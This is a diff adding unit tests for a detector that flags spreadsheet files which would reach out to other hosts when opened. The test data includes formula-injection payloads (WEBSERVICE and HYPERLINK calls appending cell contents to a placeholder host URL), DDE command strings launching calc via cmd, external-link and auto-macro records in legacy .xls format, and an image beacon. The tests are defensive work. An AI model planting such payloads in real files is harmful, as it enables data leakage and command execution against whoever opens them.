@@ -1,6 +1,7 @@
 """Results that would connect to other computers when somebody opens them are named in the preview."""
 import io
 import os
+import struct
 import unittest
 import zipfile
 
@@ -111,6 +112,48 @@ class Outward(unittest.TestCase):
         self.assertEqual(["WEBSERVICE"], self.found("a.csv", f'a,b\n1,"=WEBSERVICE(""https://{HOST}/""&A1)"\n'))
         self.assertEqual(["WEBSERVICE"], self.found("gbk.csv", f"地区,值\n华东,+WEBSERVICE(\"https://{HOST}/\")\n".encode("gb18030")))
         self.assertEqual(["DDE"], self.found("dde.tsv", "a\tb\n1\t=cmd|'/c calc'!A0\n"))
+
+    def test_formulas_of_an_old_workbook(self):
+        import xlwt
+
+        for formula, expected in ((f'HYPERLINK("https://{HOST}/"&A1;"x")', ["HYPERLINK"]), ('SUM(1;RTD("a";"";"b"))', ["RTD"]),
+                                  ("SUM(A1:A9)+One!A1", [])):  # fmt: skip
+            with self.subTest(formula):
+                book = xlwt.Workbook()
+                for name in ("One", "Two"):
+                    sheet = book.add_sheet(name)
+                    sheet.write(0, 0, f"https://{HOST}/")
+                    sheet.write(1, 0, 359.25)
+                sheet.write(2, 0, xlwt.Formula(formula))
+                data = io.BytesIO()
+                book.save(data)
+                self.assertEqual(expected, self.found("a.xls", data.getvalue()))
+        with open(os.path.join(os.path.dirname(__file__), "../fixtures/office/libreoffice.xls"), "rb") as file:
+            self.assertEqual([], self.found("libreoffice.xls", file.read()))
+
+    def test_links_connections_and_macros_of_an_old_workbook(self):
+        def text(value, wide=False):
+            return struct.pack("<HB", len(value), wide) + value.encode("utf-16-le" if wide else "latin-1")
+
+        for record, expected in (
+            ((0x1AE, b"\x01\x00" + text(f"\x01\x01@{HOST}\x03share\x03[a.xls]")), ["LINK", HOST]),
+            ((0x1AE, b"\x01\x00" + text(f"\x01\x05\x20https://{HOST}/a.xls", wide=True)), ["LINK", HOST]),
+            ((0x1AE, b"\x00\x00" + text("cmd\x03/c calc")), ["DDE"]), ((0x1AE, b"\x01\x00\x01\x04"), []),
+            ((0x1AE, b"\x01\x00\x01\x3a"), []), ((0x23, b"\x0a\x00rest"), ["DDE"]),
+            ((0x23, b"\x00\x00\x00\x00\x00\x00\x10\x00_xlfn.WEBSERVICE"), ["WEBSERVICE"]), ((0x803, b"x"), ["CONNECTION"]),
+            ((0x85, b"\0\0\0\0\x02\x01\x04\x00Auto"), ["script"]), ((0x85, b"\0\0\0\0\x00\x00\x01\x00A"), []),
+            ((0x1AE, b"\x01\x00" + b"cut"), ["LINK"]),
+        ):  # fmt: skip
+            with self.subTest(record):
+                stream = b"".join(struct.pack("<HH", kind, len(content)) + content
+                                  for kind, content in ((0x809, b"\x00\x06\x05\x00"), record, (0x0A, b"")))
+                self.assertEqual(expected, self.found("a.xls", stream))
+
+    def test_a_page_and_a_table_that_are_called_a_workbook(self):
+        self.assertEqual([HOST], self.found("a.xls", f'<table><tr><td><img src="https://{HOST}/?d=1"></td></tr></table>'))
+        self.assertEqual(["WEBSERVICE"], self.found("b.xls", f'a\tb\n1\t=WEBSERVICE("https://{HOST}/")\n'))
+        xml = '<?xml version="1.0"?><Workbook><Cell ss:Formula="=WEBSERVICE(&quot;x&quot;)"/></Workbook>'
+        self.assertEqual(["WEBSERVICE"], self.found("c.xls", xml))
 
     def test_pdfs_that_act_when_they_are_opened(self):
         from pypdf import PdfWriter
